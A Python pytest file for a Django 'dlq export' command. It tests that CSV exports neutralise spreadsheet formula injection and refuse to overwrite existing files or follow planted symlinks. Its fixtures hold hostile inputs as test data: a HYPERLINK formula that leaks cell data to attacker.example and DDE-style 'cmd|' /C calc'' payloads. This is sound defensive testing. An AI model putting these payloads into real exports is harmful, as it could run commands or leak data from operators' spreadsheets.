"""Attacks on ``manage.py dlq export``: formula injection into the operator's spreadsheet,
and an output path that already exists or is a symlink planted by someone else."""

from __future__ import annotations

import csv
import io
import os
import stat

import pytest
from django.core.management import CommandError, call_command

from recovery.store.export import CSV_COLUMNS
from recovery.models import DeadLetter, DeadLetterEvent

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"click me")'
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_letter():
    # A client chose the task name, the exception text and the arguments
    return DeadLetter.objects.create(
        task_id="@SUM(1+1)*cmd|' /C calc'!A0", task_name=FORMULA,
        exception_type="+cmd|' /C notepad'!A0", exception_message=FORMULA,
        # The positional argument differs from the message: the task cannot be imported, so
        # its positional arguments are masked and their values scrubbed from the text.
        reason="-2+3+cmd|' /C calc'!A0", args=["=1+2"], kwargs={"note": FORMULA},
        queue="\t=1+1", worker="\r=1+1", fingerprint="c" * 40, kind="poison",
    )


def export_csv(*extra) -> list[list[str]]:
    out = io.StringIO()
    call_command("dlq", "export", "--format", "csv", *extra, stdout=out, stderr=io.StringIO())
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(hostile_letter):
    header, row = export_csv()
    assert tuple(header) == CSV_COLUMNS
    cell = dict(zip(header, row))
    for value in row:
        assert not value.startswith(DANGEROUS_FIRST), value
    # Prefixed with a quote (OWASP), the text itself kept for the reader
    assert cell["task_name"] == "'" + FORMULA
    assert cell["exception_message"] == "'" + FORMULA
    assert cell["task_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cell["reason"] == "'-2+3+cmd|' /C calc'!A0"
    assert cell["queue"] == "'\t=1+1" and cell["worker"] == "'\r=1+1"


def test_csv_export_to_a_file_is_created_private(hostile_letter, tmp_path):
    path = tmp_path / "letters.csv"
    call_command("dlq", "export", "--format", "csv", "--output", str(path),
                 stderr=io.StringIO())
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    header, row = list(csv.reader(io.StringIO(path.read_text())))
    assert dict(zip(header, row))["task_name"] == "'" + FORMULA


def test_export_never_overwrites_an_existing_file(hostile_letter, tmp_path):
    path = tmp_path / "letters.csv"
    path.write_text("someone else's data\n")
    os.chmod(path, 0o644)
    with pytest.raises(CommandError, match="already exists"):
        call_command("dlq", "export", "--format", "csv", "--output", str(path),
                     stderr=io.StringIO())
    assert path.read_text() == "someone else's data\n"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o644


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_never_follows_a_symlink_planted_at_the_output_path(hostile_letter, tmp_path, fmt):
    # Given a symlink at the output path pointing at a file the operator may write
    target = tmp_path / "authorized_keys"
    target.write_text("ssh-ed25519 AAAA operator\n")
    link = tmp_path / "export.out"
    link.symlink_to(target)
    dangling = tmp_path / "dangling.out"
    dangling.symlink_to(tmp_path / "created-through-the-link")
    for path in (link, dangling):
        with pytest.raises(CommandError, match="already exists"):
            call_command("dlq", "export", "--format", fmt, "--output", str(path),
                         stderr=io.StringIO())
        assert path.is_symlink()
    assert target.read_text() == "ssh-ed25519 AAAA operator\n"
    assert not (tmp_path / "created-through-the-link").exists()


def test_a_refused_reveal_export_leaves_no_reveal_on_record(hostile_letter, tmp_path):
    # Given an output path that already exists
    target = tmp_path / "letters.jsonl"
    target.write_text("keep me")
    # When a --reveal export to it is refused
    with pytest.raises(CommandError):
        call_command("dlq", "export", "--reveal", "--output", str(target), stdout=io.StringIO(),
                     stderr=io.StringIO())
    # Then nothing was revealed, so nothing is audited as revealed
    assert not DeadLetterEvent.objects.filter(action="revealed").exists()
    assert target.read_text() == "keep me"
